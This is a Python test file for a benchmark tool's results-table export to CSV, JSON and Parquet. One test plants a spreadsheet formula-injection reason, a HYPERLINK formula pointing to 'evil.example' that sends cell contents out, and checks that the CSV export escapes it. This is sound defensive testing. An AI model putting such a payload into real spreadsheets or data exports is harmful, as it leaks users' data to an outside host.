"""The long table: the same numbers as the result files, in every format."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from cellgauge.cards.project import Project
from cellgauge.cli import main
from cellgauge.exchange.table import export_table, long_table
from cellgauge.results.release import Release
from cellgauge.results.store import read_results, seal, write_release, write_result
from cellgauge.results.table import COLUMNS, table_csv


@pytest.fixture
def release(tmp_path: Path, values: dict[str, Any], replicates: bytes) -> Path:
    """A release with one result that has scores and one that says why it has none."""
    for file in ("mkdocs.yml", "site_src/index.md"):
        (tmp_path / file).parent.mkdir(exist_ok=True)
        (tmp_path / file).touch()
    folder = tmp_path / "results/demo"
    digest, day = "sha256:" + "b" * 64, dt.date(2026, 3, 4)
    about = {"release": "demo", "title": "Demo", "kind": "measured", "rehearsal": True}
    write_release(folder, Release(**about, protocol=digest, protocol_date=day))
    write_result(folder, seal(values), replicates)
    empty = {"status": "failed", "reason": 'a "quoted", reason', "scores": [], "replicates": None, "resources": None}
    write_result(folder, seal({**values, **empty, "model": {**values["model"], "id": "nmf"}}), None)
    return folder


def project_of(release: Path) -> Project:
    return Project(release.parents[1], release.parents[1])


def test_every_score_and_every_empty_has_its_row(release: Path) -> None:
    results = list(read_results(release))
    rows = long_table(project_of(release), release.name)
    assert len(rows) == sum(max(1, len(result.scores)) for result in results)
    scores = iter(rows)
    for result in results:
        for score in result.scores or [None]:
            row = next(scores)
            assert (row["task"], row["dataset"], row["model"]) == (result.task.id, result.dataset.id, result.model.id)
            assert row["result_id"] == result.result_id
            assert row["value"] == (score.value if score else None)
            assert row["reason"] == result.reason


def test_all_formats_say_the_same(release: Path, tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet", reason="needs pyarrow: pip install 'cellgauge[export]'")
    expected = long_table(project_of(release), release.name)
    paths = {
        kind: export_table(project_of(release), release.name, kind, tmp_path)[0] for kind in ("csv", "json", "parquet")
    }
    assert json.loads(paths["json"].read_text()) == expected
    assert parquet.read_table(paths["parquet"]).to_pylist() == expected
    with paths["csv"].open(newline="") as file:
        read = list(csv.DictReader(file))
    for row, wanted in zip(read, expected, strict=True):
        for column, kind in ((name, one.type) for name, one in COLUMNS.items()):
            if wanted[column] is None:
                assert row[column] == ""
            else:
                assert (float(row[column]) if kind == "float64" else row[column]) == (
                    wanted[column] if kind == "float64" else str(wanted[column])
                )


@pytest.mark.parametrize("mark", ["=", "+", "-", "@", "\t", "\r"])
def test_no_reason_that_a_program_gave_is_run_by_a_spreadsheet(
    release: Path, values: dict[str, Any], tmp_path: Path, mark: str
) -> None:
    reason = f'{mark}HYPERLINK("http://evil.example/"&A1)'
    empty = {"status": "failed", "reason": reason, "scores": [], "replicates": None, "resources": None}
    write_result(release, seal({**values, **empty, "model": {**values["model"], "id": "nmf"}}), None)
    wanted = long_table(project_of(release), release.name)
    assert [row["reason"] for row in wanted if row["model"] == "nmf"] == [reason]
    with export_table(project_of(release), release.name, "csv", tmp_path)[0].open(newline="") as file:
        read = list(csv.DictReader(file))
    assert [row["reason"] for row in read if row["model"] == "nmf"] == [f"'{reason}"]
    assert not [cell for row in read for cell in row.values() if cell.startswith(mark)]
    assert json.loads(export_table(project_of(release), release.name, "json", tmp_path)[0].read_bytes()) == wanted


def test_a_score_below_zero_stays_a_number_in_csv(release: Path) -> None:
    row = {**long_table(project_of(release), release.name)[0], "value": -0.25, "low": -1e-05, "n_units": -3}
    (read,) = csv.DictReader(io.StringIO(table_csv([row]).decode()))
    assert (read["value"], read["low"], read["n_units"]) == ("-0.25", "-1e-05", "-3")


def test_the_command_writes_where_it_is_told(release: Path, tmp_path: Path) -> None:
    project = str(release.parents[1])
    done = CliRunner().invoke(
        main, ["--project", project, "export", release.name, "--format", "csv", "--out", str(tmp_path)]
    )
    assert done.exit_code == 0, done.output
    assert (tmp_path / f"{release.name}.csv").read_text().startswith("release,task,")


def test_no_such_release_is_said_so(release: Path) -> None:
    done = CliRunner().invoke(main, ["--project", str(release.parents[1]), "export", "none", "--format", "csv"])
    assert done.exit_code == 1
    assert "no such release" in done.output


def test_bug_a_folder_that_cannot_be_written_to_is_told_in_a_line(release: Path, tmp_path: Path) -> None:
    (tmp_path / "file").touch()
    line = ["--project", str(tmp_path), "export", release.name, "--format", "csv", "--out", str(tmp_path / "file/deep")]
    done = CliRunner().invoke(main, line)
    assert (done.exit_code, done.output.count("\n")) == (1, 1), done.output
    assert str(tmp_path / "file") in done.output
